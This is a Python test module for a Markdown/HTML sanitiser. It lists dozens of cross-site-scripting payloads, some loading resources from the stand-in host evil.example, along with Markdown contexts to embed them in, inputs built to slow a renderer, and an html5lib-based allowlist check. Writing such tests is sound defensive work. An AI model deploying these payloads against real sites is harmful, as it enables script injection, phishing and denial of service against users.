"""Texts that want to do harm: markup that would run in a reader's browser, and shapes that would keep a server busy."""

from collections.abc import Iterator
from urllib.parse import urlsplit

import html5lib

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    '<img src=x onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=1>x</text></a></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">x</math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;inset:0">x</p>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "[x](https://ok.example '\"><img src=x onerror=alert(1)>')",
    '[x](https://ok.example" onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    '![x](https://ok.example/p.png "x\\" onerror=\\"alert(1)")',
    '![" onerror="alert(1)](x)',
    "![x](https://evil.example/counter.gif)",
    "# x {onclick=alert(1) #location .x style=color:red}",
    "x {: onmouseover=alert(1) }",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    '| a |\n|:-:" onclick="alert(1)|\n| b |',
    "> [!NOTE <img src=x onerror=alert(1)>]\n> x",
    '> [!TREATY "><script>alert(1)</script>]\n> x',
    "x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))",
    'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?><script>alert(1)</script>",
    "</p></div></main><script>alert(1)</script>",
    "<p id=csrf_token class=button>x</p>",
    "<plaintext>",
    "<template><script>alert(1)</script></template>",
)


def settings_of(payload: str) -> Iterator[str]:
    """The payload in every place where an author may write."""
    line = " ".join(payload.split("\n"))
    yield payload
    yield f"## {line}"
    yield f"- {line}\n- x"
    yield f"> {line}"
    yield f"> [!NOTE]\n> {line}"
    yield f"| a | b |\n|---|---|\n| {line} | x |"
    yield f"[{line}](https://ok.example)"
    yield f'[x](https://ok.example "{line}")'
    yield f"[x]({line})"
    yield f"**{line}** *{line}*"
    yield f"x[^1]\n\n[^1]: {line}"


SHAPES = {
    "quotations in quotations": lambda size: "> " * (size // 2) + "x",
    "lists in lists": lambda size: "\n".join("    " * depth + "- x" for depth in range(int((size / 2) ** 0.5))),
    "runs of emphasis": lambda size: "*a **a " * (size // 7),
    "open brackets": lambda size: "[" * size,
    "a wide table": lambda size: "|a" * (size // 4) + "|\n" + "|-" * (size // 4) + "|\n",
    "headings": lambda size: "## a\n\n" * (size // 6),
    "link definitions": lambda size: "".join(f"[a{number}]: http://x/{number}\n" for number in range(size // 22)),
    "open fences": lambda size: "```\n\n" * (size // 5),
}
"""Texts of about the given size that are slow to render where nothing stops them."""

PHRASES = {"a", "abbr", "b", "bdi", "br", "cite", "code", "em", "i", "q", "small", "span", "strong", "sub", "sup"}
BLOCKS = {"blockquote", "dd", "div", "dl", "dt", "figcaption", "figure", "h2", "h3", "h4", "hr", "li", "ol", "p"} | {
    *("pre", "section", "table", "tbody", "td", "th", "thead", "tr", "ul")
}
HARMLESS = {"lang", "dir", "href", "rel", "id", "class", "start", "scope", "tabindex"}
SCHEMES = {"", "http", "https", "mailto"}


def assert_harmless(html: str, tags: set[str]) -> None:
    """Read as a browser reads, only known tags and attributes are there, and no address runs anything."""
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag in tags, f"<{element.tag}> in {html!r}"
        assert set(element.attrib) <= HARMLESS, f"{element.attrib} in {html!r}"
        assert urlsplit(element.get("href", "").strip()).scheme in SCHEMES, html
